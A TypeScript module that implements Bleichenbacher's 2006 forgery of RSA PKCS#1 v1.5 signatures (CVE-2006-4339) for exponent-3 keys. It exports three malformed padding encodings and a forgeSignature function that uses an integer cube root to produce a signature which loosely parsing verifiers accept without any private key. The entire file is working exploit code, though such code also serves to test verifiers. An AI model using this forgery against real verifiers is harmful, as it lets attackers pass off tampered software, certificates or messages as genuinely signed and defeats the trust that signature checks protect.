import { createHash } from 'node:crypto';

const SHA256_PREFIX = '3031300d060960864801650304020105000420';
const MODULUS_BYTES = 256;

/**
 * PKCS#1 v1.5 encodings that a verifier accepts if it parses them from the front and stops after the hash
 * (Bleichenbacher 2006, CVE-2006-4339): with the exponent 3 a cube root is their signature, so no private key is needed.
 */
export const forgeries = [
  { name: 'garbage after the hash', encode: (hash: string) => `0001${'ff'.repeat(8)}00${SHA256_PREFIX}${hash}` },
  { name: 'little padding', encode: (hash: string) => `0001ff00${SHA256_PREFIX}${hash}` },
  { name: 'no padding', encode: (hash: string) => `000100${SHA256_PREFIX}${hash}` },
] as const;

/** A signature over `message` under any RSA-2048 key whose exponent is 3. */
export function forgeSignature(message: Uint8Array, { encode }: (typeof forgeries)[number]): Uint8Array {
  const prefix = encode(createHash('sha256').update(message).digest('hex'));
  const root = ceilCubeRoot(BigInt(`0x${prefix.padEnd(MODULUS_BYTES * 2, '0')}`));
  const cubed = (root ** 3n).toString(16).padStart(MODULUS_BYTES * 2, '0');
  if (!cubed.startsWith(prefix)) throw new Error('the cube does not begin with the forged encoding');
  return new Uint8Array(Buffer.from(root.toString(16).padStart(MODULUS_BYTES * 2, '0'), 'hex'));
}

/** The smallest integer whose cube is not less than `n`. */
function ceilCubeRoot(n: bigint): bigint {
  let low = 0n;
  let high = 1n << (BigInt(n.toString(2).length) / 3n + 1n);
  while (low < high) {
    const middle = (low + high) >> 1n;
    if (middle ** 3n < n) low = middle + 1n;
    else high = middle;
  }
  return low;
}
